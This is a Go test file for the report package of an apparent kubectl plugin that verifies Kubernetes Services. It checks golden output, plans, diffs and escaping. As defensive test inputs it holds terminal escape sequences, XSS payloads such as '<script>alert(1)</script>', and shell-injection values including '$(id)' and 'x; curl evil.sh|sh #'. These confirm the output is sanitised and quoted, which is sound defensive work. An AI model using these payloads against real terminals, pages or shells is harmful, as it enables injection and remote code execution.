package report

import (
	"bytes"
	"encoding/json"
	"flag"
	"html"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"time"
	"unicode"

	"sigs.k8s.io/yaml"

	"github.com/kubectl-svcx/kubectl-svcx/pkg/apply"
	"github.com/kubectl-svcx/kubectl-svcx/pkg/probe"
	"github.com/kubectl-svcx/kubectl-svcx/pkg/verify"
)

var update = flag.Bool("update", false, "write the golden files")

// golden compares got with a file of testdata.
func golden(t *testing.T, name, got string) {
	t.Helper()
	path := filepath.Join("testdata", name)
	if *update {
		if err := os.WriteFile(path, []byte(got), 0o644); err != nil {
			t.Fatal(err)
		}
		return
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	if got != string(want) {
		t.Errorf("%s differs (run with -update to accept)\n--- got\n%s--- want\n%s", name, got, want)
	}
}

func redisPort(target string) verify.PortSummary {
	return verify.PortSummary{Key: "redis", Name: "redis", Port: 6379, TargetPort: target, NodePort: 30688, Protocol: "TCP", Check: probe.CheckRedis}
}

func verified() verify.ServiceVerdict {
	return verify.ServiceVerdict{
		Namespace: "default", Name: "redis-svc", Type: "NodePort", ClusterIPs: []string{"10.96.8.164"},
		Ports: []verify.PortSummary{redisPort("6379")}, State: verify.StateProven,
		Checks: []verify.CheckResult{
			{Name: "selector", State: verify.StateProven, Summary: "app.kubernetes.io/name=redis matches 2 Pods of Deployment/redis"},
			{Name: "endpoints", Port: "redis", State: verify.StateProven, Summary: "redis 2/2 ready", Detail: []string{"10.244.0.8", "10.244.1.4"}},
			{Name: "tunnel", Port: "redis", State: verify.StateProven, Summary: "PONG from 2/2", Detail: []string{"0.9 ms", "1.1 ms"}},
			{Name: "pod", Port: "redis", State: verify.StateProven, Summary: "PONG from 2/2", Detail: []string{"0.3 ms", "0.4 ms"}},
			{Name: "cluster-ip", Port: "redis", State: verify.StateProven, Summary: "PONG 16/16, both backends", Detail: []string{"0.4 ms"}},
			{Name: "dns", State: verify.StateProven, Summary: "redis-svc.default.svc.cluster.local → 10.96.8.164"},
			{Name: "node-port", Port: "redis", State: verify.StateProven, Summary: "PONG from here on 2/2 nodes", Detail: []string{"10.89.0.2:30688", "10.89.0.3:30688"}},
		},
		Reach: []verify.Reach{
			{Path: probe.PathNodePort, From: probe.FromHere, Port: "redis", Address: "10.89.0.2:30688", Check: probe.CheckRedis},
			{Path: probe.PathClusterIP, From: probe.FromCluster, Port: "redis", Address: "10.96.8.164:6379", Check: probe.CheckRedis},
			{Path: probe.PathTunnel, From: probe.FromTunnel, Port: "redis", Address: "default/redis-0:6379", Check: probe.CheckRedis},
		},
	}
}

func failed() verify.ServiceVerdict {
	return verify.ServiceVerdict{
		Namespace: "default", Name: "redis-svc", Type: "NodePort", ClusterIPs: []string{"10.96.8.164"},
		Ports: []verify.PortSummary{redisPort("6380")}, State: verify.StateFailed,
		Checks: []verify.CheckResult{
			{Name: "selector", State: verify.StateProven, Summary: "app.kubernetes.io/name=redis matches 2 Pods of Deployment/redis"},
			{Name: "endpoints", Port: "redis", State: verify.StateProven, Summary: "redis 2/2 ready"},
			{Name: "tunnel", Port: "redis", State: verify.StateFailed, Summary: "refused by 2/2 on 6380"},
			{Name: "pod", Port: "redis", State: verify.StateFailed, Summary: "refused by 2/2 on 6380; 6379 answers PONG"},
			{Name: "cluster-ip", Port: "redis", State: verify.StateNotProbed, Summary: "not probed: no backend can answer"},
		},
		Findings: []verify.Finding{
			{ID: "SVC305", Severity: verify.SeverityWarning, Object: verify.ObjectRef{Kind: "Service", Name: "redis-svc"}, Message: "Service/redis-svc publishes Pods that are not ready."},
			{
				ID: "SVC204", Severity: verify.SeverityFailure, Object: verify.ObjectRef{Kind: "Service", Namespace: "default", Name: "redis-svc"},
				Field:    "spec.ports[0].targetPort",
				Message:  `Service/redis-svc sends port "redis" to targetPort 6380, where nothing listens; container "redis" answers PONG on 6379.`,
				Evidence: []string{"connect refused: 10.244.0.8:6380, 10.244.1.4:6380", "PONG: 10.244.0.8:6379, 10.244.1.4:6379"},
				Follows:  []string{"clients of the cluster IP are refused"},
				Fix: &verify.Fix{
					Summary: "point targetPort at 6379",
					Command: `kubectl patch service redis-svc -n default --type=json -p='[{"op":"replace","path":"/spec/ports/0/targetPort","value":6379}]'`,
					Patch:   "spec:\n  ports:\n  - port: 6379\n    targetPort: 6379\n",
				},
			},
		},
	}
}

func notProven() verify.ServiceVerdict {
	s := verified()
	s.State = verify.StateNotProven
	s.NotProven = "endpoints and tunnel are good; the ClusterIP and DNS paths were not probed."
	for _, i := range []int{3, 4, 5} {
		s.Checks[i] = verify.CheckResult{Name: s.Checks[i].Name, State: verify.StateNotProven, Needs: "a probe Pod (--in-cluster)"}
	}
	return s
}

func verdict(services ...verify.ServiceVerdict) *verify.Verdict {
	v := &verify.Verdict{APIVersion: verify.VerdictAPIVersion, Kind: "Verdict", Services: services, Seconds: 2.14, State: verify.StateProven}
	for _, s := range services {
		if s.State == verify.StateFailed {
			v.State = verify.StateFailed
		}
	}
	return v
}

func many() *verify.Verdict {
	bad := failed()
	bad.Name, bad.Namespace = "cart", "shop"
	good := verified()
	good.Namespace = "shop"
	open := notProven()
	open.Name, open.Namespace = "gateway", "edge"
	alias := verify.ServiceVerdict{
		Namespace: "shop", Name: "legacy-db", Type: "ExternalName", ExternalName: "db.example.com", State: verify.StateProven,
		Checks: []verify.CheckResult{{Name: "external-name", State: verify.StateProven, Summary: "db.example.com resolves"}},
	}
	v := verdict(good, alias, open, bad)
	v.Gaps = []verify.Gap{{Resource: "pods", Namespace: "edge", Reason: `User "jo" cannot list pods`}}
	return v
}

func TestVerdict(t *testing.T) {
	manyPorts := verified()
	manyPorts.Ports = append(manyPorts.Ports, verify.PortSummary{Key: "metrics", Name: "metrics", Port: 9121, TargetPort: "metrics", Protocol: "TCP", Check: probe.CheckHTTP})
	manyPorts.Checks = append(manyPorts.Checks[:3:3], verify.CheckResult{Name: "tunnel", Port: "metrics", State: verify.StateProven, Summary: "200 OK from 2/2"})
	unnamed := failed()
	unnamed.Findings = nil
	inside := verified()
	inside.Type, inside.Reach = "ClusterIP", inside.Reach[1:]
	alias := many().Services[1]

	for name, c := range map[string]struct {
		v *verify.Verdict
		o Options
	}{
		"verified.txt":        {verdict(verified()), Options{}},
		"verified-100.txt":    {verdict(verified()), Options{Width: 100}},
		"verified-60.txt":     {verdict(verified()), Options{Width: 60}},
		"verified-wide.txt":   {verdict(verified()), Options{Format: Wide}},
		"verified-color.txt":  {verdict(verified()), Options{Color: true, Width: 120}},
		"verified-ascii.txt":  {verdict(verified()), Options{ASCII: true}},
		"verified-inside.txt": {verdict(inside), Options{}},
		"verified-ports.txt":  {verdict(manyPorts), Options{}},
		"verified-alias.txt":  {verdict(alias), Options{}},
		"failed.txt":          {verdict(failed()), Options{}},
		"failed-80.txt":       {verdict(failed()), Options{Width: 80}},
		"failed-unnamed.txt":  {verdict(unnamed), Options{}},
		"not-proven.txt":      {verdict(notProven()), Options{}},
		"many.txt":            {many(), Options{}},
		"many-100.txt":        {many(), Options{Width: 100}},
		"many-60.txt":         {many(), Options{Width: 60}},
		"many-wide.txt":       {many(), Options{Format: Wide}},
		"many-name.txt":       {many(), Options{Format: Name}},
		"none.txt":            {verdict(), Options{}},
		"failed.json":         {verdict(failed()), Options{Format: JSON}},
		"failed.yaml":         {verdict(failed()), Options{Format: YAML}},
	} {
		t.Run(name, func(t *testing.T) {
			var b bytes.Buffer
			if err := Verdict(&b, c.v, c.o); err != nil {
				t.Fatal(err)
			}
			golden(t, name, b.String())
			if c.o.ASCII && strings.ContainsFunc(b.String(), func(r rune) bool { return r > 127 }) {
				t.Errorf("a sign outside ASCII:\n%s", &b)
			}
		})
	}
}

func plan() *apply.Plan {
	svc := apply.Ref{APIVersion: "v1", Kind: "Service", Namespace: "default", Name: "redis-svc"}
	return &apply.Plan{
		Changes: []apply.Change{
			{
				Object: svc, Action: apply.ActionTransition,
				Diffs: []apply.FieldDiff{
					{Path: "spec.type", Old: "NodePort", New: "ClusterIP"},
					{Path: "spec.ports[0].nodePort", Old: "30688"},
				},
				Transition: &apply.Transition{From: apply.NodePort, To: apply.ClusterIP, Interrupts: true, Effects: []string{
					"the cluster IP stays 10.96.8.164",
					"node port 30688 is released: clients that use it lose the Service",
				}},
			},
			{Object: apply.Ref{Kind: "Deployment", Namespace: "default", Name: "redis"}, Action: apply.ActionUnchanged},
			{
				Object: apply.Ref{Kind: "ConfigMap", Namespace: "default", Name: "redis"}, Action: apply.ActionUpdate,
				Diffs:    []apply.FieldDiff{{Path: "data.maxmemory", New: "64mb"}, {Path: `metadata.annotations["example.com/a-rather-long-annotation-key"]`, Old: "x", New: "y"}},
				Warnings: []string{"metadata.annotations: something is deprecated"},
			},
			{Object: apply.Ref{Kind: "Secret", Namespace: "default", Name: "redis"}, Action: apply.ActionCreate, Diffs: []apply.FieldDiff{{Path: "data", New: "{}"}}},
		},
		Notes: []string{"Deployment/old is live and no longer in the overlay"},
	}
}

func TestPlan(t *testing.T) {
	named := plan()
	named.Changes = append(named.Changes, apply.Change{Object: apply.Ref{APIVersion: "apps/v1", Kind: "Deployment", Name: "redis"}, Action: apply.ActionCreate})
	via := plan()
	via.CreatesNamespace = "shop"
	via.Changes = via.Changes[:2]
	via.Changes[0].Transition = &apply.Transition{From: apply.Headless, To: apply.ClusterIP, Via: apply.ExternalName, Interrupts: true,
		Effects: []string{"the Service gets a cluster IP"}}
	via.Changes[1].Object.Namespace = "elsewhere"
	for name, c := range map[string]struct {
		p *apply.Plan
		o Options
	}{
		"plan.txt":      {plan(), Options{}},
		"plan-80.txt":   {plan(), Options{Width: 80}},
		"plan-wide.txt": {plan(), Options{Format: Wide}},
		"plan-via.txt":  {via, Options{Color: true}},
		"plan-name.txt": {named, Options{Format: Name}},
		"plan.json":     {plan(), Options{Format: JSON}},
	} {
		t.Run(name, func(t *testing.T) {
			var b bytes.Buffer
			if err := Plan(&b, c.p, c.o); err != nil {
				t.Fatal(err)
			}
			golden(t, name, b.String())
		})
	}
}

func TestTransitions(t *testing.T) {
	before, now := Standings(verdict(verified(), notProven())), Standings(verdict(failed()))
	before["edge/gone"] = Standing{State: verify.StateProven}
	at := time.Date(2026, 1, 1, 12, 30, 1, 0, time.UTC)
	for name, o := range map[string]Options{"transitions.txt": {}, "transitions-60.txt": {Width: 60}} {
		var b bytes.Buffer
		if err := Transitions(&b, before, now, at, "Pod/redis-0", o); err != nil {
			t.Fatal(err)
		}
		if err := Transitions(&b, now, Standings(verdict(verified())), at, "", o); err != nil {
			t.Fatal(err)
		}
		if err := Transitions(&b, now, now, at, "Pod/redis-0", o); err != nil {
			t.Fatal(err)
		}
		golden(t, name, b.String())
	}
}

// The commands of a text are for the cluster that was asked; other formats are kept and
// compared, wherever they were made.
func TestCommandsOnTheSameCluster(t *testing.T) {
	bad, odd := failed(), failed()
	odd.Findings[1].Fix = &verify.Fix{Summary: "restore the scheduler: kubectl get pods -n kube-system"}
	odd.Checks[3] = verify.CheckResult{Name: "pod", State: verify.StateNotProven, Needs: "removing it: kubectl delete pod x"}
	here := verified()
	here.Reach = here.Reach[2:]
	for _, tc := range []struct {
		service verify.ServiceVerdict
		want    string
	}{
		{bad, "  run       kubectl --context=prod patch service redis-svc "},
		{odd, "  fix       restore the scheduler: kubectl --context=prod get pods "},
		{odd, "removing it: kubectl --context=prod delete pod x"},
		{here, "reach it: kubectl --context=prod port-forward "},
		{here, "  reach  tunnel  kubectl --context=prod port-forward "},
	} {
		for _, f := range VerdictFormats() {
			var b bytes.Buffer
			if err := Verdict(&b, verdict(tc.service), Options{Format: f, Cluster: " --context=prod"}); err != nil {
				t.Fatal(err)
			}
			if f != Wide && strings.Contains(b.String(), "--context") != (f == Text) || f == Wide && !strings.Contains(b.String(), tc.want) {
				t.Errorf("%s, which has %q as text:\n%s", f, tc.want, &b)
			}
		}
	}
}

// A command is offered as it is, or not at all; what it does is in the patch then.
func TestCommandIsWhole(t *testing.T) {
	for _, tc := range []struct {
		command string
		offered bool
	}{
		{`kubectl patch deployment web -p '{"args":["a  b"]}'`, true},
		{"kubectl patch deployment web -p '" + strings.Repeat("x", 3000) + "'", true},
		{"kubectl patch deployment web -p '" + strings.Repeat("x", 9000) + "'", false},
		{"kubectl delete pod 'x\ny'", false},
	} {
		s := failed()
		s.Findings = s.Findings[1:]
		s.Findings[0].Fix = &verify.Fix{Summary: "mend it", Command: tc.command, Patch: "spec: patched\n"}
		for _, f := range []Format{Text, HTML} {
			var b bytes.Buffer
			if err := Verdict(&b, verdict(s), Options{Format: f}); err != nil {
				t.Fatal(err)
			}
			text := html.UnescapeString(b.String())
			if strings.Contains(text, tc.command) != tc.offered || !tc.offered && (strings.Contains(text, tc.command[:20]) || !strings.Contains(text, "spec: patched")) {
				t.Errorf("%s: of %.60q:\n%s", f, tc.command, text)
			}
		}
	}
}

// What comes from a cluster may hold anything; no byte of it may reach a
// terminal as a command.
func TestHostileText(t *testing.T) {
	const evil = "a\x1b[2Jb\x1b]0;title\x07c\rd\u202ee\x00\u009bf</script><script>alert(1)</script>\"'><img src=x onerror=y>]]>&\xff"
	s := failed()
	s.Name, s.Namespace, s.Type, s.NotProven = evil, evil, evil, evil
	s.ClusterIPs, s.ExternalName = []string{evil}, ""
	s.Ports = []verify.PortSummary{{Key: evil, Name: evil, TargetPort: evil, Protocol: evil, Check: evil}}
	s.Checks = append(s.Checks, verify.CheckResult{Name: evil, Port: evil, State: verify.StateNotProven, Summary: evil, Detail: []string{evil}, Needs: evil})
	s.Findings[0].Message, s.Findings[0].ID, s.Findings[0].Evidence, s.Findings[0].Follows = evil, evil, []string{evil}, []string{evil}
	s.Findings[0].Object = verify.ObjectRef{Kind: evil, Namespace: evil, Name: evil}
	s.Findings[0].Field, s.Findings[0].Source = evil, &verify.Source{File: evil, Line: 1}
	s.Findings[0].Fix = &verify.Fix{Summary: evil, Command: evil, Patch: evil + "\n  " + evil}
	s.Findings[1].Fix.Unlocated = evil
	s.Findings[1].Fix.Edits = []verify.Edit{{Source: verify.Source{File: evil}, Diff: "-" + evil + "\n+" + evil + "\n"}}
	s.Reach = []verify.Reach{{Path: evil, From: evil, Address: evil, Check: evil}}
	v := verdict(s)
	v.Gaps = []verify.Gap{{Resource: evil, Namespace: evil, Reason: evil}}
	p := plan()
	c := &p.Changes[0]
	c.Object.Kind, c.Object.Name, c.Warnings = evil, evil, []string{evil}
	c.Diffs = []apply.FieldDiff{{Path: evil, Old: evil, New: evil}}
	c.Transition.Effects = []string{evil}
	p.Notes, p.CreatesNamespace = []string{evil}, evil

	for _, f := range VerdictFormats() {
		for _, help := range []func(string) (string, string){nil, func(string) (string, string) { return "title", "help" }} {
			var b bytes.Buffer
			o := Options{Format: f, Help: help, Explain: true, Version: "v1"}
			for _, v := range []*verify.Verdict{v, verdict(s, s)} {
				if err := Verdict(&b, v, o); err != nil {
					t.Fatal(err)
				}
			}
			if f != JUnit && f != SARIF && f != HTML {
				if err := Plan(&b, p, o); err != nil {
					t.Fatal(err)
				}
			}
			harmless(t, f, b.String())
		}
	}
	// And what changed, while it is watched.
	var b bytes.Buffer
	if err := Transitions(&b, map[string]Standing{}, Standings(v), time.Time{}, evil, Options{}); err != nil {
		t.Fatal(err)
	}
	harmless(t, Text, b.String())
}

// harmless wants nothing in a report that commands a terminal, turns text
// around, or is markup.
func harmless(t *testing.T, f Format, text string) {
	t.Helper()
	if i := strings.IndexFunc(text, func(r rune) bool { return unicode.Is(unicode.C, r) && r != '\n' }); i >= 0 {
		t.Errorf("%s: a control or format character: %q", f, text[max(0, i-40):min(i+10, len(text))])
	}
	if f == HTML || f == JUnit {
		if strings.Contains(text, "<script") || strings.Contains(text, "<img") || strings.Contains(text, "]]>") {
			t.Errorf("%s: markup that came from a cluster", f)
		}
	}
}

// What programs read has to come back as it was.
func TestMachineFormatsRoundTrip(t *testing.T) {
	want := many()
	for f, decode := range map[Format]func([]byte, any) error{
		JSON: json.Unmarshal,
		YAML: func(b []byte, v any) error { return yaml.UnmarshalStrict(b, v) },
	} {
		var b bytes.Buffer
		if err := Verdict(&b, want, Options{Format: f}); err != nil {
			t.Fatal(err)
		}
		var got verify.Verdict
		if err := decode(b.Bytes(), &got); err != nil {
			t.Fatalf("%s: %v", f, err)
		}
		again, err := json.Marshal(got)
		if err != nil {
			t.Fatal(err)
		}
		first, err := json.Marshal(want)
		if err != nil {
			t.Fatal(err)
		}
		if !bytes.Equal(first, again) {
			t.Errorf("%s does not round-trip", f)
		}
	}
	if err := Verdict(&bytes.Buffer{}, want, Options{Format: "junk"}); err == nil {
		t.Error("an unknown format was accepted")
	}
}

func TestClientCommand(t *testing.T) {
	for _, c := range []struct {
		check   probe.Check
		address string
		want    string
	}{
		{probe.CheckRedis, "10.0.0.1:6379", "redis-cli -u redis://10.0.0.1:6379"},
		{probe.CheckRedis, "[fd00::1]:6379", "redis-cli -u 'redis://[fd00::1]:6379'"},
		{probe.CheckHTTP, "10.0.0.1:80", "curl http://10.0.0.1/"},
		{probe.CheckHTTP, "10.0.0.1:8080", "curl http://10.0.0.1:8080/"},
		{probe.CheckHTTPS, "10.0.0.1:443", "curl https://10.0.0.1/"},
		{probe.CheckGRPC, "10.0.0.1:50051", "grpcurl -plaintext 10.0.0.1:50051 grpc.health.v1.Health/Check"},
		{probe.CheckTLS, "10.0.0.1:636", "openssl s_client -connect 10.0.0.1:636"},
		{probe.CheckUDP, "[fd00::1]:53", "nc -u fd00::1 53"},
		{probe.CheckTCP, "10.0.0.1:22", "nc -vz 10.0.0.1 22"},
		{probe.CheckDNS, "db.example.com", "nslookup db.example.com"},
		{probe.CheckHTTP, "$(id):80", "curl 'http://$(id)/'"},
		{probe.CheckTCP, "x; curl evil.sh|sh #:22", "nc -vz 'x; curl evil.sh|sh #' 22"},
	} {
		if got := clientCommand(c.check, false, c.address); got != c.want {
			t.Errorf("%s %s: %q, want %q", c.check, c.address, got, c.want)
		}
	}
	for check, want := range map[probe.Check]string{
		probe.CheckRedis: "redis-cli --insecure -u rediss://10.0.0.1:6379",
		probe.CheckGRPC:  "grpcurl -insecure 10.0.0.1:6379 grpc.health.v1.Health/Check",
		probe.CheckMySQL: "nc -vz 10.0.0.1 6379",
	} {
		if got := clientCommand(check, true, "10.0.0.1:6379"); got != want {
			t.Errorf("%s inside TLS: %q, want %q", check, got, want)
		}
	}
}

func TestWrap(t *testing.T) {
	const text = "one two  three https://example.com/a-word-that-is-much-longer-than-the-column four"
	for _, l := range wrap(text, minText) {
		if cols(l) > minText && strings.Contains(l, " ") {
			t.Errorf("%q is longer than %d", l, minText)
		}
	}
	if got := strings.Join(wrap(text, minText), " "); strings.Join(strings.Fields(got), " ") != strings.Join(strings.Fields(text), " ") {
		t.Errorf("words were lost: %q", got)
	}
	if got := wrap(text, 0); len(got) != 1 || got[0] != text {
		t.Errorf("wrapped without a width: %q", got)
	}
}

// An arrow takes two columns where there is only ASCII, and the line ends before the edge.
func TestWrapASCII(t *testing.T) {
	for width := 40; width < 100; width++ {
		c := newCanvas(Options{Width: width, ASCII: true})
		c.hang("lead  ", 6, "type  NodePort → ClusterIP, in place … or by way of ExternalName → Headless")
		var b bytes.Buffer
		if err := c.flush(&b); err != nil {
			t.Fatal(err)
		}
		for l := range strings.Lines(b.String()) {
			if l = strings.TrimRight(l, "\n"); len(l) > width || !strings.Contains(b.String(), "->") {
				t.Errorf("%d columns of %d: %q", len(l), width, l)
			}
		}
	}
}

// What changes in a long value is shown, not its beginning.
func TestDiffText(t *testing.T) {
	long := strings.Repeat("x", 2000)
	file := strings.Repeat("a line\n", 500)
	for name, c := range map[string]struct{ was, now, want string }{
		"short":           {"1", "2", "1 → 2"},
		"spaces alone":    {`"x  y"`, "x y", `"x  y" → x y`},
		"the end":         {long + "1", long + "2", "…" + strings.Repeat("x", 40) + "1 → …" + strings.Repeat("x", 40) + "2"},
		"the last line":   {strconv.Quote(file + "maxmemory 1\n"), strconv.Quote(file + "maxmemory 2\n"), "2 lines differ\n  - maxmemory 1\n  + maxmemory 2"},
		"a line more":     {strconv.Quote(file), strconv.Quote(file + "more \x1b[31m\n"), "one line differs\n  + \"more \\x1b[31m\""},
		"one line to two": {"a", `"a\nb\n"`, "one line differs\n  + b"},
		"its end":         {`"a\nb"`, `"a\nb\n"`, "the line break at its end"},
	} {
		if got := diffText(apply.FieldDiff{Old: c.was, New: c.now}); got != c.want {
			t.Errorf("%s: %q, want %q", name, got, c.want)
		}
	}
	if got := diffText(apply.FieldDiff{Old: strconv.Quote(file), New: strconv.Quote(strings.ReplaceAll(file, "a", "b"))}); strings.Count(got, "\n") > maxDiffLines+1 {
		t.Errorf("%d lines", strings.Count(got, "\n"))
	}
}

// apply names what stays as it is, too; diff does not.
func TestPlanNames(t *testing.T) {
	p := &apply.Plan{CreatesNamespace: "a, b", Changes: []apply.Change{
		{Object: apply.Ref{Kind: "Service", Name: "one"}, Action: apply.ActionUnchanged},
		{Object: apply.Ref{Kind: "Service", Name: "two"}, Action: apply.ActionCreate},
	}}
	for all, want := range map[bool]string{
		false: "namespace/a\nnamespace/b\nservice/two\n",
		true:  "namespace/a\nnamespace/b\nservice/one\nservice/two\n",
	} {
		var b bytes.Buffer
		if err := Plan(&b, p, Options{Format: Name, Unchanged: all}); err != nil || b.String() != want {
			t.Errorf("%v: %q %v", all, b.String(), err)
		}
	}
}
